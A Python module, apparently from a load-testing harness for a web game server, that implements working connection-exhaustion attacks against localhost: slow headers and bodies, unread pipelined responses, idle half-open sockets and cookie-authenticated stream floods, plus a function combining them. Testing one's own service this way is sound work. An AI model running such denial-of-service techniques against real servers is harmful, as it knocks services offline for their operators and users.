"""Attacks by connections: they do not read, send a byte at a time, or just stay."""

import itertools
import re
import socket
from collections.abc import Callable
from contextlib import suppress

from .browser import Broken
from .target import Siege

_MOST_OPENED = 20_000  # connections in one attack, those opened anew with them
_UNFINISHED_BODY = 1_000_000


def unread(siege: Siege, connections: int, requests: int = 256) -> None:
    """Ask `requests` times for a script on each connection, at once, and read nothing of the answers."""
    head = f"GET {_longest_script(siege)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode() * requests
    _hold(siege, connections, lambda number: head, lambda number: b"")


def _longest_script(siege: Siege) -> str:
    """Return the address of the longest script of the first page."""
    with suppress(*Broken), siege.browser() as browser:
        scripts: list[str] = re.findall(r'<script src="([^"]+)"', browser.get("/").text)
        return max(scripts, key=lambda script: len(browser.get(script).body))
    return "/static/app.js"


def slow_heads(siege: Siege, connections: int = 500) -> None:
    """Send half a header, then a byte of it at a time."""
    begin = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    _hold(siege, connections, lambda number: begin, lambda number: b"a")


def slow_bodies(siege: Siege, connections: int = 500) -> None:
    """Announce a body, send half of it, then a byte at a time."""

    def begin(number: int) -> bytes:
        length = _UNFINISHED_BODY if number % 10 == 0 else 1_000
        head = "POST /api/v1/games HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        return f"{head}Content-Length: {length}\r\n\r\n".encode() + b" " * (length // 2)

    _hold(siege, connections, begin, lambda number: b" ")


def idle(siege: Siege, connections: int = 2_000) -> None:
    """Open connections and say nothing on a third of them, half a head on another, half a body on the rest."""
    begins = itertools.cycle(
        [
            b"",
            b"GET / HTTP/1.1\r\nHost: 127",
            b"POST /join HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\ncode=",
        ]
    )
    parts = list(itertools.islice(begins, connections))
    _hold(siege, connections, lambda number: parts[number], lambda number: b"")


def streams(siege: Siege, connections: int = 500) -> None:
    """Listen to a game with all the connections of one address, and come back when turned away."""
    _hold(siege, connections, _listening(siege), lambda number: b"", reads=True)


def unread_streams(siege: Siege, connections: int = 100) -> None:
    """Listen to a game without reading, asking for its board again and again on the same connection."""
    listening = _listening(siege)
    board = listening(0).replace(b"/events", b"/board", 1)
    _hold(siege, connections, lambda number: board * 50 + listening(number), lambda number: board)


def _listening(siege: Siege) -> Callable[[int], bytes]:
    """Join the long game as a device, and return the request for its stream."""
    cookie = ""
    with suppress(*Broken, RuntimeError, LookupError), siege.browser() as device:
        device.join(siege.target.key)
        cookie = "; ".join(f"{name}={value}" for name, value in device.cookies.items())
    path = f"/games/{siege.target.game_id}/events"
    return lambda number: f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie}\r\n\r\n".encode()


def _hold(
    siege: Siege,
    connections: int,
    begin: Callable[[int], bytes],
    further: Callable[[int], bytes],
    *,
    reads: bool = False,
) -> None:
    """Keep so many connections open: each sends `begin`, then `further` from time to time; a closed one comes back."""
    opened = itertools.count()
    held: dict[int, socket.socket] = {}
    while not siege.over and next(opened) < _MOST_OPENED:
        for number in range(connections):
            if siege.over:
                break
            if number not in held and next(opened) < _MOST_OPENED:
                _open(siege, held, number, begin(number))
            elif number in held:
                _go_on(siege, held, number, further(number), reads)
        siege.count("held", len(held) - siege.answers["held"])
        siege.pause(0.2)
    for connection in held.values():
        connection.close()


def _open(siege: Siege, held: dict[int, socket.socket], number: int, sent: bytes) -> None:
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(0.5)
    try:
        connection.bind((siege.target.source, 0))
        connection.connect(("127.0.0.1", siege.target.port))
        connection.setblocking(False)
        with suppress(BlockingIOError):
            connection.send(sent)
        held[number] = connection
    except OSError as error:
        connection.close()
        siege.count(type(error).__name__)
        siege.pause(0.01)


def _go_on(siege: Siege, held: dict[int, socket.socket], number: int, sent: bytes, reads: bool) -> None:
    connection = held[number]
    try:
        if sent:
            connection.send(sent)
        peeked = connection.recv(4096, 0 if reads else socket.MSG_PEEK)
        closed = not peeked
    except BlockingIOError:
        closed = False
    except OSError:
        closed = True
    if closed:
        connection.close()
        del held[number]
        siege.count("closed")


def mixed(siege: Siege) -> list[Callable[[], None]]:
    """Return smaller parts of all these attacks, to be run at once."""
    return [
        lambda: unread(siege, 20),
        lambda: slow_heads(siege, 100),
        lambda: slow_bodies(siege, 100),
        lambda: idle(siege, 300),
        lambda: streams(siege, 100),
        lambda: unread_streams(siege, 20),
    ]
